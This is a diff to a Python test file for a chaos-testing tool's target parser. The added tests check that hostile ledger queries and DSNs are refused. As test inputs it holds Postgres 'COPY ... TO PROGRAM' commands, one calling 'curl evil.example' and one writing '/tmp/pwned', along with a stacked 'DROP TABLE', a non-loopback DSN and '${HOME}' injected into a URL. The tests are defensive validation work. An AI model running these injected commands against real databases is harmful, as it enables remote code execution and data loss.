@@ -17,7 +17,7 @@ from loadtests.shape import REFERENCE, StatusFormat
 
 STACK = {"SHOP_PORT": "8000", "TOXIPROXY_PORT": "8474", "PAYMENTS_PORT": "8101",
          "INVENTORY_PORT": "8102", "POSTGRES_PORT": "15432", "REDIS_PORT": "16379",
-         "POSTGRES_PASSWORD": "pw"}
+         "POSTGRES_PASSWORD": "pw", "AUDIT_DB_PASSWORD": "apw", "SERVICE_TOKEN": "t"}
 OWN = """\
 name: my-shop
 shop:
@@ -47,7 +47,7 @@ def test_the_reference_file_describes_the_reference_shop() -> None:
     assert target.shape() == REFERENCE  # what the load does when no target is named
     assert target.ledgers.initial_stock == {p.sku: p.initial_stock for p in PRODUCTS}
     assert target.shop.base_url == "http://127.0.0.1:8000"
-    assert "pw@127.0.0.1:15432" in (target.ledgers.orders.dsn or "")
+    assert "cc_auditor:apw@127.0.0.1:15432" in (target.ledgers.orders.dsn or "")
 
 
 def test_the_basket_file_maps_three_roles_to_proxies_of_its_own() -> None:
@@ -85,10 +85,21 @@ def test_an_unset_variable_is_named_with_its_line_and_the_stack_ones_explained()
     with pytest.raises(TargetError) as raised:
         parse_target(text, "own.yaml", variables={}, stack=STACK)
     (problem,) = raised.value.problems
-    assert problem.startswith("toxiproxy.api: ${MY_TOXIPROXY} is not set")
-    assert "given only to a target with stack:" in problem and problem.endswith("(line 12)")
-    filled = parse_target(text, "own.yaml", variables={"MY_TOXIPROXY": "18474"})
+    assert problem.startswith("toxiproxy.api: ${MY_TOXIPROXY} is not declared: list "
+                              "MY_TOXIPROXY under secrets:")
+    assert problem.endswith("(line 12)")
+    with pytest.raises(TargetError) as raised:  # set, but not declared: not read
+        parse_target(text, "own.yaml", variables={"MY_TOXIPROXY": "18474"})
+    declared = text + "secrets: [MY_TOXIPROXY]\n"
+    with pytest.raises(TargetError) as raised:
+        parse_target(declared, "own.yaml", variables={})
+    assert raised.value.problems[0].startswith("toxiproxy.api: ${MY_TOXIPROXY} is not set")
+    filled = parse_target(declared, "own.yaml", variables={"MY_TOXIPROXY": "18474"})
     assert filled.toxiproxy.api == "http://127.0.0.1:18474"
+    stacked = OWN.replace("http://127.0.0.1:8474", "http://127.0.0.1:${TOXIPROXY_PORT}")
+    with pytest.raises(TargetError) as raised:
+        parse_target(stacked, "own.yaml", variables={"TOXIPROXY_PORT": "1"}, stack=STACK)
+    assert "given only to a target with stack:" in raised.value.problems[0]
 
 
 @pytest.mark.parametrize(("change", "says"), [
@@ -209,3 +220,52 @@ def test_surfaces_are_read_as_the_target_says_and_a_wrong_one_is_refused() -> No
 
 def load_text(name: str) -> str:
     return (TARGETS_DIR / f"{name}.yaml").read_text()
+
+
+@pytest.mark.parametrize(("change", "says"), [
+    (("query: SELECT 1", "query: COPY (SELECT 1) TO PROGRAM 'curl evil.example'"),
+     "a ledger query must be one SELECT (this is UNKNOWN)"),
+    (("query: SELECT 1", "query: SELECT 1; DROP TABLE orders"),
+     "a ledger query must be one SELECT (this is SELECT, DROP)"),
+    (("query: SELECT 1", "query: UPDATE orders SET status = 'confirmed'"),
+     "a ledger query must be one SELECT (this is UPDATE)"),
+    (("@127.0.0.1:5432", "@db.example.com:5432"), "the dsn must name a loopback host"),
+    (("@127.0.0.1:5432/shop", "@127.0.0.1:5432/shop?host=10.0.0.7"),
+     "the dsn must name a loopback host"),
+    (("@127.0.0.1:5432/shop", "@127.0.0.1:5432/shop?service=prod"),
+     "the dsn must name a loopback host"),
+])
+def test_a_hostile_ledger_is_refused_before_anything_runs(change: tuple[str, str],
+                                                          says: str) -> None:
+    base = OWN + ("ledgers:\n  orders:\n    dsn: postgresql://audit:pw@127.0.0.1:5432/shop\n"
+                  "    query: SELECT 1\n")
+    assert parse_target(base, "own.yaml", variables={}).ledgers.orders is not None
+    with pytest.raises(TargetError) as raised:
+        parse_target(base.replace(*change), "own.yaml", variables={})
+    assert any(says in p for p in raised.value.problems), raised.value.problems
+
+
+def test_a_target_file_cannot_read_the_environment_it_does_not_declare() -> None:
+    """${HOME} (or a token) in a shared file would leak to the URL it is put in."""
+    text = OWN.replace("base_url: http://127.0.0.1:9000",
+                       "base_url: http://127.0.0.1:9000/?who=${HOME}")
+    with pytest.raises(TargetError) as raised:
+        parse_target(text, "own.yaml", variables={"HOME": "/root"})
+    assert "${HOME} is not declared" in raised.value.problems[0]
+
+
+def test_a_hostile_target_file_is_refused_by_the_cli_with_exit_2(tmp_path: Path) -> None:
+    """Before any connection: the audit command never reaches the DSN or runs the query."""
+    from click.testing import CliRunner
+
+    from chaos.cli import main
+
+    hostile = tmp_path / "hostile.yaml"
+    hostile.write_text(OWN + "ledgers:\n  orders:\n"
+                       "    dsn: postgresql://postgres:pw@db.example.com:5432/shop\n"
+                       "    query: COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned'\n")
+    result = CliRunner().invoke(main, ["audit", "--target", str(hostile)])
+    assert result.exit_code == 2, result.output
+    assert "the dsn must name a loopback host" in result.output
+    assert "a ledger query must be one SELECT" in result.output
+    assert "Traceback" not in result.output
